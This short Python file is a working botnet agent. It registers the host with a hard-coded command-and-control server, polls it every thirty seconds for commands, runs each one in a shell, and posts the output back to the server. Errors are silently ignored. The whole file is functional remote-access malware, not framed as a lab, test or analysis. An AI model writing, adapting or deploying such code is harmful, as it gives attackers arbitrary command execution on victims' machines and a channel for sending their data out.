import socket
import subprocess
import time
import uuid

import requests

C2 = "http://203.0.113.20:8080"
BOT_ID = "%s-%s" % (socket.gethostname(), uuid.getnode())


def poll():
    requests.post(C2 + "/register", json={"id": BOT_ID}, timeout=10)
    while True:
        try:
            cmd = requests.get(C2 + "/task", params={"id": BOT_ID}, timeout=10).text
            if cmd and cmd != "idle":
                out = subprocess.run(cmd, shell=True, capture_output=True, text=True)
                requests.post(C2 + "/result", data={"id": BOT_ID, "out": out.stdout + out.stderr})
        except Exception:
            pass
        time.sleep(30)
